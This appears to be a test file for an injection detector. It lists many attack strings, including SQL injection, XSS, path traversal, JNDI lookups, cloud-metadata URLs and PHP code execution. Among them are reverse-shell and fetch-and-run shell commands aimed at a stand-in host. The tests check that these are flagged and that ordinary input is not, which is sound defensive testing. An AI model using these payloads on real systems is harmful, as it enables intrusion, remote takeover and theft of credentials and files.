import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { judgeValue, longestValue } from './judge.ts';
import { explain, threshold, type Language } from './verdict.ts';

/**
 * Values that ordinary people and programs send, in several languages, one a line; many were chosen because they look alike: apostrophes, words of
 * SQL, questions about code, Markdown, addresses, expressions, tokens.
 */
const ordinaryValues = readFileSync(new URL('ordinary-values.txt', import.meta.url), 'utf8').split('\n').slice(0, -1);

/** Any UTF-16, lone surrogates included. */
const units = fc.array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 60 }).map((codes) => String.fromCharCode(...codes));

/** Attacks in each language, in forms that differ in more than spelling. */
const attacks: Readonly<Record<Exclude<Language, 'script'>, readonly string[]>> = {
  sql: [
    "' or 1=1--", "x' or 'a'='a", '1" and "1"="1', "admin'--", "admin' #", '1 and 7=7', '1) or (3=3', '5 union all select null,null,version()', "1' union/**/select 1,2,3-- -",
    "1'/*!50000union*/ /*!50000select*/ 1", '1;drop table users', "1; exec xp_cmdshell 'dir'", '1 and (select count(*) from information_schema.tables)>0', "1' and extractvalue(1,concat(0x7e,version()))#",
    "1' order by 7-- -", "'||(select password from users limit 1)||'", "1' and sleep(5) and '1'='1", "1'; waitfor delay '0:0:9'--", '1 or pg_sleep(3)', "a' or username like '%a%'--", "1' procedure analyse()#",
    '(select case when 1=1 then 1 else 1/0 end)', "' into outfile '/var/www/x.php'--", '1%27%20or%201%3d1', '1\'; select pwd', '; sleep(7)', '\'a\'!=\'b\'', ';replace/**/users/**/(id,name) values (1,\'x\')', '1.e(ascii)', 'OR \'{"a":"b"}\' ?| array[\'a\']'],
  nosql: ['{"$ne":null}', '{"user":{"$regex":"^a"}}', "'; return true; var x='", "a' || this.password.match(/a/) || 'b'=='c"],
  shell: [
    ';id', '| cat /etc/hosts', '&& whoami', '`id`', '$(curl http://198.51.100.1/x)', "c'a't /etc/hostname; ls -la", '; wget http://198.51.100.1/x.sh -O- | sh', '|/usr/bin/id', ';cat$IFS/etc/hosts', 'a;/bin/ls -l',
    '() { :;}; echo x', '& dir c:\\', 'powershell -nop -w hidden -enc SQBFAFgA', 'cmd.exe /c whoami', '; nc -e /bin/sh 198.51.100.1 4444', 'x\nping -c 3 198.51.100.1', 'echo aWQ= | rev | sh', 'd=/dev&&(sh)0>$d/tcp/198.51.100.1/777', 'IF NOT DEFINED X (', 'bash -i >& /dev/tcp/198.51.100.1/9001 0>&1', '() { :; }', 'cd /;cd srv;column notes', 'cd /tmp && lua', ';gcc12.1<<<x', ';flock -u / id', ';trap \'rm -rf notes\' EXIT', '\'tIme Sh -c whoami', '\'a; sh$QQ -c whoami', '|$u wget test', 'x=;find /etc -name hosts -exec cat {} +', 'IF ERRORLEVEL 1 CMD', 'IF EXIST notes ECHO yes', 'if /i "a"=="b" x', 'a.jpg&bcdboot/r notes.txt', 'Invoke-Expression -Command notes.ps1'],
  html: [
    '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<svg/onload=alert`1`>', "' onfocus=alert(1) autofocus x='", 'javascript:alert(document.cookie)', '<a href="java&#x09;script:alert(1)">x</a>', '<iframe src="//198.51.100.1">',
    "';alert(document.domain)//", '<body onpageshow=alert(1)>', '%3Cscript%3Ealert(1)%3C/script%3E', '&lt;script&gt;alert(1)&lt;/script&gt;', '\\u003cimg src=x onerror=alert(1)\\u003e', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '＜script＞alert(1)＜/script＞',
    '<math><mtext><style><img src=x onerror=alert(1)></style>', '<object data="data:text/html;base64,PHNjcmlwdD4="></object>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', 'x;onfocus=eval(atob(\'YWxlcnQoMSk=\'))', '(![]+[])[+!+[]]', 'document /*a*/ . cookie', '\u00bcscript\u00bealert(\u00a2x\u00a2)\u00bc/script\u00be'],
  path: ['../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '....//....//etc/passwd', '/etc/shadow', 'php://filter/convert.base64-encode/resource=index', 'file:///etc/hosts', '%252e%252e%252f%252e%252e%252fetc%252fpasswd', '..%c0%af..%c0%afetc/passwd', '\\\\198.51.100.1\\share\\x', 'c:/windows/win.ini', '/proc/self/environ', '../../../app.conf\u0000.png', '0x5c0x2e./'],
  template: ['{{7*7}}', '${7*7}', "{{''.__class__.__mro__}}", '${T(java.lang.Runtime).getRuntime().exec("id")}', '${jndi:ldap://198.51.100.1/a}', '${${lower:j}ndi:${lower:l}dap://198.51.100.1/a}', '<%= 7*7 %>', '#{7*7}', '%{(#_memberAccess["allowStaticMethodAccess"]=true)}', '#{require.main.constructor._load(a).readdirSync(b)}', '&#x24;&#0000000000000000000000000000000000000000123;jndi:ldap://198.51.100.1/a}', '$&lbracejndi:ldap://198.51.100.1/a}'],
  ldap: ['*)(uid=*))(|(uid=*', 'admin)(&(objectClass=*)', '*)(|(mail=*))'],
  xpath: ["x' or count(/child::node())=1 or 'a'='b", "'] | //user/*[1] | a['", 'string-length(name(/*[1]))>3 or ancestor::node()'],
  xml: ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]><r>&x;</r>', '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hosts"/></x>'],
  header: ['a\r\nSet-Cookie: admin=1', 'x%0d%0aLocation:%20http://198.51.100.1/', 'me@example.com\nBcc: you@example.org'],
  address: ['http://169.254.169.254/latest/meta-data/', 'http://0xa9fea9fe/', 'http://2852039166/', 'http://[::ffff:a9fe:a9fe]/', 'http://metadata.google.internal/computeMetadata/v1/'],
  include: ['<!--#exec cmd="id"-->', '<esi:include src="http://198.51.100.1/x"/>'],
  object: ['rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA', 'O:8:"stdClass":1:{s:1:"a";i:1;}', '{"@type":"com.sun.rowset.JdbcRowSetImpl"}', '{"__proto__":{"admin":true}}', '!!python/object/apply:os.system ["id"]', 'class.module.classLoader.resources', '_|O:8:"stdClass":1:{s:1:"a";i:1;}', 'constructor.prototype. x'],
  php: ['<?php system("id"); ?>', 'phpinfo()', "system('id');", '__import__("os").system("id")', 'require("child_process").exec("id")', 'java.lang.Runtime.getRuntime().exec("id")', '${@print(system("id"))}', '$f["o"](5)', '@$x[0]/*a*/("id")', '("system")("id")', '(sy.(st).em)("id");', 'process["env"]', '$1:constructor:constructor', 'allow_url_include=on', 'java.io.Reader', 'while(!false);', 'eval(chr(105).chr(100))', 'eval(gzinflate(base64_decode("x")))', 'exec //a\n (x)', 'system(whoami)', '(string)"sys"."t"."em"(\'id\');', '(string) {[system][0]} (\'id\');', '(/* a */system)(ls/* b */);', '([\'system\'])[0](\'id\');', '$a/*b*/()', '$__[$_[1]](7)', '$7:Module:prototype:_compile', 'this.constructor.constructor', 'Process.spawn("id")', 'while(-Infinity);'],
};

describe.each(Object.entries(attacks))('%s', (_, values) => {
  it.each(values)('is seen in %j', (value) => {
    const found = judgeValue(value);
    expect(found?.score).toBeGreaterThanOrEqual(threshold);
    expect(found === undefined ? '' : explain(found)).toMatch(/^[a-z]/i);
  });
});

describe('a value', () => {
  it('of ordinary people and programs is silent', () => {
    expect(ordinaryValues.length).toBeGreaterThan(450);
    expect(ordinaryValues.filter((value) => judgeValue(value) !== undefined)).toEqual([]);
  });

  it('is told by its own language where it could be several', () => {
    expect(judgeValue("' or 1=1--")?.language).toBe('sql');
    expect(judgeValue('; cat /etc/hosts')?.language).toBe('shell');
    expect(judgeValue('<script>alert(1)</script>')?.language).toBe('html');
    expect(judgeValue('../../etc/passwd')?.language).toBe('path');
    expect(judgeValue('${jndi:ldap://198.51.100.1/a}')?.language).toBe('template');
  });

  it('is seen through encodings that are mixed and nested, and says which', () => {
    const twice = encodeURIComponent(encodeURIComponent("1' or 1=1--"));
    expect(judgeValue(twice)).toMatchObject({ language: 'sql', undone: ['percent-encoding', 'percent-encoding'] });
    const base64 = Buffer.from("1' union select password from users--").toString('base64');
    expect(judgeValue(base64)).toMatchObject({ language: 'sql', undone: ['base64'] });
  });

  it('hidden in percent-encoding of any depth up to the limit is judged as it is in the open', () => {
    fc.assert(fc.property(fc.constantFrom(...attacks.sql, ...attacks.html, ...attacks.path), fc.integer({ min: 1, max: 4 }), (value, depth) => {
      let text = value;
      for (let at = 0; at < depth; at += 1) text = encodeURIComponent(text.toWellFormed());
      expect(judgeValue(text)).toBeDefined();
    }), { numRuns: 300 });
  });

  it('of letters, digits, spaces and single dots and dashes is innocent', () => {
    fc.assert(fc.property(fc.stringMatching(/^[a-z0-9]{1,8}(?:[ .@-][a-z0-9]{1,8}){0,2}$/), (value) => {
      expect(judgeValue(value)).toBeUndefined();
    }), { numRuns: 500 });
  });

  it('never makes the judges throw, whatever it is', () => {
    const piece = fc.oneof(units, fc.constantFrom("'", '"', '`', '(', ')', '<', '>', '--', '#', '/*', '*/', ';', '|', '&', '$(', '${', '{{', '}}', '%', '%27', '%u0027', '&#x27;', '\\u0027', '../', 'select ', 'union ', ' or ', '1=1', 'case when ', '\u0000', '\r\n', '\ud800', '+', 'O:1:"', '://'));
    fc.assert(fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      const found = judgeValue(pieces.join(''));
      expect(found === undefined || found.score >= threshold).toBe(true);
    }), { numRuns: 800 });
  });

  it('of the greatest length is judged in time, whatever is repeated in it', () => {
    fc.assert(fc.property(fc.array(fc.constantFrom("'", '"', '(', ')', '<', '>', '-', '#', '/', '*', ';', '|', '&', '$', '{', '}', '%', '\\', ' ', 'a', '1', '=', '.', ':', '\n', 'or ', 'select ', 'on'), { minLength: 1, maxLength: 5 }), (pieces) => {
      const unit = pieces.join('');
      const started = process.threadCpuUsage();
      judgeValue(unit.repeat(Math.ceil(longestValue / unit.length)));
      expect(process.threadCpuUsage(started).user / 1000).toBeLessThan(3_000);
    }), { numRuns: 150 });
  });
});
